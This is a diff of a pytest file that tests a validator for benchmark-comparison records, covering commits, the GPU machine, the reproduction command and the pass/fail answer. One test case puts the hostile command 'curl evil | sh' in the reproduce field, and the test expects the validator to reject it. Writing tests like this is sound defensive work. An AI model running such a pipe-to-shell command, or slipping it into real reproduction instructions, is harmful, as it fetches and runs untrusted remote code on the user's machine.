@@ -99,28 +99,15 @@ NOT_ASKED = "commit [0-9a-f]{40} was to be measured"
 NOT_BETWEEN = "a commit comes twice, or is none between the baseline and main"
 
 
-def repeat_step(document):
-    document["steps"].append(document["steps"][0])
-
-
-def take_main_for_a_step(document):
-    document["steps"][0]["commit"] = document["comparison"]["head"]["sha"]
-
-
-def take_another_step(document):
-    document["steps"][0]["comparison"] = document["steps"][1]["comparison"]
-
-
 @pytest.mark.parametrize(
     ("change", "message"),
     [
         (changed(*OF_MAIN, "base", OTHER_SIDE), NOT_ASKED),
         (changed(*OF_STEP, "machine", "machine", "nvidia-a100"), "the GPU nvidia-h200 was not"),
         (changed(*OF_STEP, "reproduce", "curl evil | sh"), "it gives another command"),
-        (repeat_step, NOT_BETWEEN),
+        (lambda document: document["steps"].append(document["steps"][0]), NOT_BETWEEN),
         (changed("steps", 0, "commit", OTHER), NOT_BETWEEN),
-        (take_main_for_a_step, NOT_BETWEEN),
-        (take_another_step, NOT_ASKED),
+        (changed(*OF_STEP, "head", OTHER_SIDE), NOT_ASKED),
         (changed(*OF_MAIN, "answer", "pass"), "answer is 'pass', the rest says 'fail'"),
         (changed(*OF_MAIN, "same_sources", True), "by git the head has another package"),
     ],
